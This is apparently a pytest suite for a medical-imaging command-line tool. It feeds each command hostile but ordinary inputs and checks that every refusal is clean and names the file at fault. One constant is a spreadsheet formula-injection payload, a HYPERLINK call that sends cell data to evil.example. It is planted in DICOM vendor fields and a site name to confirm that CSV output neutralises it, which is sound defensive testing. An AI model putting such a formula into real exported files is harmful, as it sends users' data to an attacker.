"""Every command over a table of hostile but ordinary inputs: none may end as "internal
error" (exit 4) or abort (134), none may print a traceback, and every refusal names the
file or the key at fault.

The kinds are issue 31's: label files a spreadsheet mangled, series too small to use, text
that a spreadsheet or a figure would misread, links and odd paths as --out, weights that
are not weights, unreachable hosts, settings out of range. Each row is a case of a kind;
a new case of a known kind belongs in the table.
"""

from __future__ import annotations

import csv
import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pydicom
import pytest
import yaml
from click.testing import CliRunner

from medadapt.engine.cli import cli
from medadapt.engine.contracts.errors import ExitCode
from medadapt.engine.contracts.host import get_plugin_host
from medadapt.plugins.phantom.hospital import HospitalSpec, write_hospital

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
MATHTEXT = r"Clinic $\alpha^{$ North"


@dataclass
class Site:
    """What the cases are built from: a DICOM site, its profile, a trained model."""

    root: Path
    folder: Path
    profile: Path
    model: Path

    def profile_with(self, name: str, change: Callable[[dict], None]) -> Path:
        document = yaml.safe_load(self.profile.read_text())
        change(document)
        path = self.root / name
        path.write_text(yaml.safe_dump(document))
        return path

    def labels_with(self, name: str, header: str, encoding: str = "utf-8") -> Path:
        rows = self.folder.joinpath("labels.csv").read_text().splitlines()[1:]
        path = self.root / name
        path.write_text("\n".join([header, *rows]) + "\n", encoding=encoding)
        return path


@pytest.fixture(scope="module")
def site(tmp_path_factory, phantom_site) -> Site:
    root = tmp_path_factory.mktemp("hostile")
    os.environ.setdefault("MEDADAPT_PSEUDONYM_KEY", "a-site-secret-for-this-test-only")
    os.environ["MEDADAPT_CACHE_DIR"] = str(root / "cache")
    folder = root / "site"
    spec = HospitalSpec.model_validate({"patients": 16, "slices": 8, "size": 64, "seed": 5})
    write_hospital(spec, folder, workers=1)
    for path in (folder / "dicom").rglob("*.dcm"):  # a hostile vendor string in every file
        ds = pydicom.dcmread(path)
        ds.Manufacturer = FORMULA
        ds.save_as(path, enforce_file_format=True)
    document = phantom_site("Hostile Hospital", 5, epochs=1)
    document["data"] = {
        "source": "dicom-ct",
        "params": {"root": str(folder / "dicom")},
        "label_file": str(folder / "labels.csv"),
        "split": document["data"]["split"],
    }
    document["report"] = {"subgroups": ["manufacturer"]}
    profile = root / "site.yaml"
    profile.write_text(yaml.safe_dump(document))
    get_plugin_host().add_commands(cli)
    trained = CliRunner().invoke(cli, ["train", "-p", str(profile), "--out", str(root / "t")])
    assert trained.exit_code == 0, trained.output
    return Site(root, folder, profile, root / "t" / "model")


def _free_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return int(free.getsockname()[1])


def _bundle_with_text_weights(site: Site) -> Path:
    bundle = site.root / "text-bundle"
    made = CliRunner().invoke(
        cli, ["model", "export", str(site.model), "--format", "monai-bundle", "--out", str(bundle),
              "--overwrite"],
    )  # fmt: skip
    assert made.exit_code == 0, made.output
    (bundle / "models" / "model.pt").write_text("not weights\n")
    return bundle


def _link_to_bundle(site: Site) -> Path:
    bundle = site.root / "linked-bundle"
    CliRunner().invoke(cli, ["model", "export", str(site.model), "--format", "monai-bundle",
                             "--out", str(bundle), "--overwrite"])  # fmt: skip
    link = site.root / "current-bundle"
    if not link.is_symlink():
        link.symlink_to(bundle)
    return link


def _tiny_series(site: Site) -> Path:
    """Twelve slices of 1 x 1 pixel."""
    import numpy as np
    from pydicom.uid import generate_uid

    from medadapt.plugins.dicom_ct.writer import ct_slice

    folder = site.root / "tiny"
    folder.mkdir(exist_ok=True)
    study, series = generate_uid(), generate_uid()
    for k in range(12):
        ds = ct_slice(np.zeros((1, 1), dtype=np.int16), patient_id="TINY-1", study_uid=study,
                      series_uid=series, position=(0.0, 0.0, 2.0 * k), instance=k + 1)  # fmt: skip
        ds.save_as(folder / f"{k:02d}.dcm", enforce_file_format=True)
    return folder


#: (what, the command line from the site, the names a refusal must hold).
CASES: list[tuple[str, Callable[[Site], list[str]], Callable[[Site], list[str]]]] = [
    (
        "label file with label twice (BOM first)",
        lambda s: [
            "profile",
            "check",
            str(
                s.profile_with(
                    "dup.yaml",
                    lambda d: d["data"].update(
                        label_file=str(
                            s.labels_with(
                                "dup.csv",
                                "\ufeffpatient_id,series_uid,label,x_mm,y_mm,z_mm,lesion_id,label",
                            )
                        )
                    ),
                )
            ),
        ],
        lambda s: [str(s.root / "dup.csv"), "'label' in columns 3, 8"],
    ),
    (
        "training on a label file with label twice",
        lambda s: [
            "train",
            "-p",
            str(
                s.profile_with(
                    "dup-train.yaml",
                    lambda d: d["data"].update(
                        label_file=str(
                            s.labels_with(
                                "dup2.csv",
                                "patient_id,series_uid,Label,x_mm,y_mm,z_mm,lesion_id,label ",
                            )
                        )
                    ),
                )
            ),
            "--out",
            str(s.root / "dup-train"),
        ],
        lambda s: [str(s.root / "dup2.csv"), "more than once"],
    ),
    (
        "label header whose byte-order mark was read as Windows-1252",
        lambda s: [
            "train",
            "-p",
            str(
                s.profile_with(
                    "bom.yaml",
                    lambda d: d["data"].update(
                        label_file=str(
                            s.labels_with(
                                "bom.csv",
                                "\u00ef\u00bb\u00bfpatient_id,series_uid,"
                                "label,x_mm,y_mm,z_mm,lesion_id",
                            )
                        )
                    ),
                )
            ),
            "--out",
            str(s.root / "bom-train"),
        ],
        lambda s: [str(s.root / "bom.csv"), "byte-order mark"],
    ),
    (
        "a label file that is binary",
        lambda s: [
            "profile",
            "check",
            str(
                s.profile_with(
                    "bin.yaml",
                    lambda d: d["data"].update(
                        label_file=str(_write(s.root / "bin.csv", b"\x89PNG\r\n\x1a\n\xff\xfe\x00"))
                    ),
                )
            ),
        ],
        lambda s: [str(s.root / "bin.csv")],
    ),
    (
        "a dollar sign in the site's name (validate draws it)",
        lambda s: [
            "validate",
            "-p",
            str(s.profile_with("dollar.yaml", lambda d: d["site"].update(name=MATHTEXT))),
            "--model",
            str(s.model),
            "--out",
            str(s.root / "dollar-report"),
        ],
        lambda s: [],
    ),
    (
        "a dollar sign in the site's name (augment-preview draws it)",
        lambda s: [
            "augment-preview",
            "-p",
            str(s.root / "dollar.yaml"),
            "--out",
            str(s.root / "dollar.png"),
            "--n",
            "2",
            "--variants",
            "1",
        ],
        lambda s: [],
    ),
    (
        "a formula in the site's name",
        lambda s: [
            "validate",
            "-p",
            str(s.profile_with("formula.yaml", lambda d: d["site"].update(name=FORMULA))),
            "--model",
            str(s.model),
            "--out",
            str(s.root / "formula-report"),
        ],
        lambda s: [],
    ),
    (
        "a seed no random number generator takes",
        lambda s: [
            "train",
            "-p",
            str(s.profile_with("seed.yaml", lambda d: d.update(seed=2**70))),
            "--out",
            str(s.root / "seed-train"),
        ],
        lambda s: ["seed", "2147483648"],
    ),
    (
        "a phantom of a billion patients",
        lambda s: ["phantom", str(s.root / "huge"), "--patients", "1000000000"],
        lambda s: ["--patients"],
    ),
    (
        "a phantom of a billion patients, in a profile",
        lambda s: [
            "profile",
            "check",
            str(
                s.profile_with(
                    "huge.yaml",
                    lambda d: d.update(data={"source": "phantom", "params": {"patients": 10**9}}),
                )
            ),
        ],
        lambda s: ["data.params.patients"],
    ),
    (
        "export over a symbolic link to a bundle",
        lambda s: [
            "model",
            "export",
            str(s.model),
            "--format",
            "monai-bundle",
            "--out",
            str(_link_to_bundle(s)),
            "--overwrite",
        ],
        lambda s: [str(s.root / "current-bundle"), "symbolic link"],
    ),
    (
        "export over the model's own weights",
        lambda s: [
            "model",
            "export",
            str(s.model),
            "--format",
            "onnx",
            "--out",
            str(s.model / "weights.safetensors"),
            "--overwrite",
        ],
        lambda s: [str(s.model / "weights.safetensors")],
    ),
    (
        "export into a folder that does not exist",
        lambda s: [
            "model",
            "export",
            str(s.model),
            "--format",
            "torchscript",
            "--out",
            str(s.root / "no" / "such" / "m.ts"),
        ],
        lambda s: [str(s.root / "no" / "such")],
    ),
    (
        "a file where a model folder is expected",
        lambda s: [
            "validate",
            "-p",
            str(s.profile),
            "--model",
            str(s.profile),
            "--out",
            str(s.root / "file-model"),
        ],
        lambda s: [str(s.profile)],
    ),
    (
        "a bundle whose weights are text",
        lambda s: [
            "model",
            "import",
            str(_bundle_with_text_weights(s)),
            "-p",
            str(s.profile),
            "--out",
            str(s.root / "imported"),
        ],
        lambda s: ["model.pt: not a PyTorch weights file"],
    ),
    (
        "a train --out that is a file",
        lambda s: ["train", "-p", str(s.profile), "--out", str(s.profile)],
        lambda s: [str(s.profile)],
    ),
    (
        "a profile that is a folder",
        lambda s: ["profile", "check", str(s.root)],
        lambda s: [str(s.root)],
    ),
    (
        "a batch with a scheduler nobody runs",
        lambda s: [
            "batch",
            str(s.profile),
            "--from",
            str(s.model),
            "--scheduler",
            f"tcp://127.0.0.1:{_free_port()}",
            "--out",
            str(s.root / "batch"),
        ],
        lambda s: ["--scheduler tcp://127.0.0.1:"],
    ),
    (
        "a batch with a scheduler address that is not one",
        lambda s: [
            "batch",
            str(s.profile),
            "--from",
            str(s.model),
            "--scheduler",
            "not an address",
            "--out",
            str(s.root / "batch2"),
        ],
        lambda s: ["--scheduler not an address"],
    ),
    (
        "a series of 1 x 1 pixels",
        lambda s: ["inspect", str(_tiny_series(s))],
        lambda s: [],
    ),
]


def _write(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


@pytest.mark.parametrize(("what", "command", "named"), CASES, ids=[c[0] for c in CASES])
def test_no_hostile_input_ends_as_an_internal_error(site, what, command, named):
    import distributed  # noqa: F401 - its defaults, before one of them is set
    from dask import config

    with config.set({"distributed.comm.timeouts.connect": "3s"}):
        result = CliRunner().invoke(cli, command(site))
    output = result.output
    assert result.exit_code not in (ExitCode.INTERNAL_ERROR, 134), output[-3000:]
    assert "Traceback" not in output, output[-3000:]
    assert "internal error" not in output
    if result.exit_code == ExitCode.INVALID_INPUT:
        for name in named(site):
            assert name in output, (name, output)


def test_a_formula_in_a_dicom_attribute_is_text_in_predictions_csv(site):
    result = CliRunner().invoke(
        cli, ["validate", "-p", str(site.profile), "--model", str(site.model), "--out",
              str(site.root / "csv-report")],
    )  # fmt: skip
    assert result.exit_code in (0, 1, 5), result.output
    with (site.root / "csv-report" / "predictions.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows
    assert {row["manufacturer"] for row in rows} == {"'" + FORMULA}


def test_a_dollar_in_the_sites_name_still_gives_the_html_report(site):
    report = site.root / "dollar-report"
    if not (report / "report.html").exists():
        CliRunner().invoke(
            cli, ["validate", "-p", str(site.profile_with("dollar.yaml", lambda d: d["site"].update(
                name=MATHTEXT))), "--model", str(site.model), "--out", str(report)],
        )  # fmt: skip
    assert (report / "report.html").is_file()
    assert "Clinic $\\alpha^{$ North" in (report / "report.html").read_text()


def _file_size_limit(limit_bytes: int) -> Callable[[], None]:
    def limit() -> None:  # in the child: files may grow to the limit only, as on a full disk
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return limit


@pytest.mark.parametrize(
    ("limit", "failing"),
    [
        (200_000, "best.safetensors"),
        (800_000, "checkpoint.pt"),
    ],  # weights 395 kB, checkpoint 1.2 MB
)
def test_training_onto_a_full_disk_is_said_plainly_and_can_be_run_again(site, limit, failing):
    import subprocess
    import sys

    out = site.root / f"full-{limit}"
    done = subprocess.run(
        [sys.executable, "-m", "medadapt.engine", "train", "-p", str(site.profile), "--out",
         str(out)],
        capture_output=True, text=True, preexec_fn=_file_size_limit(limit), timeout=600,
        check=False, env={**os.environ, "MEDADAPT_CACHE_DIR": str(site.root / f"cache-{limit}")},
    )  # fmt: skip
    assert done.returncode == ExitCode.INVALID_INPUT, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    assert f"{out / failing}: File too large" in done.stderr
    assert "the command can be run again" in done.stderr
    assert list(out.rglob("*.tmp")) == []
